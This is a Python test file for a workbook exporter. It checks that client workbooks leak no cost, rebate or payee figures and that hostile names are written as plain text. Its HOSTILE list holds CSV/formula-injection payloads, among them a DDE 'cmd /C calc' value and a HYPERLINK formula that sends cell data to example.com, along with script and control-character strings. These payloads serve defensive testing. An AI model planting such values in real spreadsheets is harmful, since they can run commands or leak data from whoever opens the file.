"""What a client must not find, and what a name must not do."""

import re
from collections import Counter
from io import BytesIO
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest

from kolopt.explore.judging import figures_of
from kolopt.explore.subject import subject_of
from kolopt.planning import Options
from kolopt.report.sections import VIEWS
from kolopt.scenario.load import from_document

HOSTILE = {
    "link": '=HYPERLINK("http://example.com/?"&A1,"pay here")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "minus": "-2+3",
    "wide": "＝1+1",
    "tab": "\t=1+1",
    "script": "<script>alert(1)</script>",
    "escape": "\x1b[31mred\x1b[0m \x07\x00",
    "turned": "plan \u202e\u2066 nalp",
    "illegal": "a\ufffe\uffffb _x0041_",
    "footer": '&D&P&"Arial,Bold"&G',
    "long": "endless " * 1250,
    "wide and long": "很长的名字" * 2000,
}


def parts(data):
    with ZipFile(BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def confidential(plan):
    """Every figure of cost that the plan holds, in fen."""
    amounts = {part for line in plan.lines for part in (line.unit_cost, line.cost, *line.cost_lines.values())}
    amounts |= {line.count * part for line in plan.lines for part in line.cost_lines.values()}
    for split in ("by_tier", "by_phase", "by_cost_line", "by_payee"):
        amounts |= set(getattr(plan.spend, split).values())
    amounts |= {amount for _, amount in plan.funds} | {amount for _, amount in plan.outlay}
    amounts |= {amount for cost in plan.fixed_costs for amount in (cost.net, cost.vat, cost.net + cost.vat)}
    return sorted(abs(amount) for amount in amounts if amount)


ODD_PRICES = (
    "tiers.nano.quote=431.17",
    "tiers.micro.quote=2719.43",
    "tiers.mid.quote=12347.89",
    "tiers.macro.quote=46913.57",
    "tiers.nano.handling=153.19",
    "tiers.micro.handling=257.31",
    "tiers.mid.handling=511.73",
    "tiers.macro.handling=1523.97",
    "offers.brand-note.production=817.53",
    "fixed_costs.retainer.amount=12347.61",
    "rebate={rate: 17%, settled: later}",
    "agency={rate: 7.3%}",
)
"""Prices whose sums are never whole yuan, so that no count or result can look like one of them."""


def spellings(fen):
    """A figure as a file could hold it: yuan, grouped by thousands, without needless zeros, fen."""
    yuan = f"{fen // 100}.{fen % 100:02d}"
    return {yuan, f"{fen // 100:,}.{fen % 100:02d}", yuan.rstrip("0"), str(fen)}


def holds(text, figure):
    return re.search(rf"(?<![\d.,]){re.escape(figure)}(?!\d|[.,]\d)", text)


def payees(plan):
    return sorted({*plan.spend.by_payee, *(cost.payee for cost in plan.fixed_costs)})


@pytest.mark.parametrize("code", ["en", "zh"])
def test_a_clients_workbook_holds_no_cost_rebate_handling_or_payee(replanned, written, code):
    plan = replanned(*ODD_PRICES)
    odd = [fen for fen in confidential(plan) if fen % 100 and fen > 10_000]
    assert len(odd) > 50
    figures = sorted({figure for fen in odd for figure in spellings(fen)})
    content = {name: data.decode() for name, data in parts(written(plan, code, "client")).items()}
    for name, text in content.items():
        assert not [figure for figure in figures if figure in text and holds(text, figure)], name
        assert not [payee for payee in payees(plan) if payee in text], name
        assert "<f>" not in text
        assert "hidden" not in text
        assert not re.search("cost|rebate|handling|payee|税|费用|报价|净价|返点|收款", text, re.IGNORECASE), (
            name
        )


def test_the_scan_would_find_them_in_a_workbook_for_finance(replanned, written):
    plan = replanned(*ODD_PRICES)
    content = "".join(data.decode() for data in parts(written(plan, "en", "finance")).values())
    odd = {fen for line in plan.lines for fen in (line.cost, *line.cost_lines.values()) if fen > 10_000}
    assert all(any(holds(content, figure) for figure in spellings(fen)) for fen in sorted(odd) if fen % 100)
    assert all(payee in content for payee in payees(plan))


def named(plan, name):
    """The plan of the same campaign with this name for itself, its phases, an offer, a cost and payees."""
    both = {"en": name, "zh": name}
    retainer = plan.inputs["fixed_costs"]["retainer"] | {"name": both, "payee": name}
    offer = plan.inputs["offers"]["brand-note"] | {"name": both}
    inputs = plan.inputs | {
        "name": name,
        "phases": [phase | {"name": both} for phase in plan.inputs["phases"]],
        "fixed_costs": {"retainer": retainer},
        "offers": plan.inputs["offers"] | {"brand-note": offer},
        "payees": plan.inputs["payees"] | {"production": name},
    }
    case = from_document(inputs, path=plan.scenario.path)
    return figures_of(subject_of(case, Options()), plan.counts(), bound=100.0)


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheets_of(content):
    return {name: ElementTree.fromstring(text) for name, text in content.items() if "/worksheets/s" in name}


def kinds(content):
    """How many numbers, texts and formulas stand on each sheet."""
    return {
        name: Counter(
            "formula" if cell.find(f"{MAIN}f") is not None else cell.get("t", "number")
            for cell in sheet.iter(f"{MAIN}c")
        )
        for name, sheet in sheets_of(content).items()
    }


@pytest.fixture(scope="module")
def usual(skincare, written):
    """The kinds of all cells of a workbook with an ordinary name, by view."""
    plan = named(skincare, "an ordinary name")
    return {view: kinds(parts(written(plan, "zh", view))) for view in VIEWS}


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("view", ["finance", "client"])
def test_a_hostile_name_is_only_text(skincare, written, usual, name, view):
    content = parts(written(named(skincare, name), "zh", view))
    assert kinds(content) == usual[view]
    assert not [part for part in content if "hyperlink" in part.lower() or "externalLink" in part]
    texts = ["".join(item.itertext()) for item in ElementTree.fromstring(content["xl/sharedStrings.xml"])]
    assert not [text for text in texts if text.lstrip().startswith(("=", "+", "-", "@", "＝"))]
    assert not [text for text in texts if re.search("[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)]
    assert max(map(len, texts)) <= 4000
    for sheet in sheets_of(content).values():
        footer = sheet.findtext(f"{MAIN}headerFooter/{MAIN}oddFooter")
        assert len(re.match("&L([^&]*)&C", footer)[1]) <= 60
        assert all(float(row.get("ht", 0)) < 200 for row in sheet.iter(f"{MAIN}row"))
        assert sheet.find(f"{MAIN}hyperlinks") is None
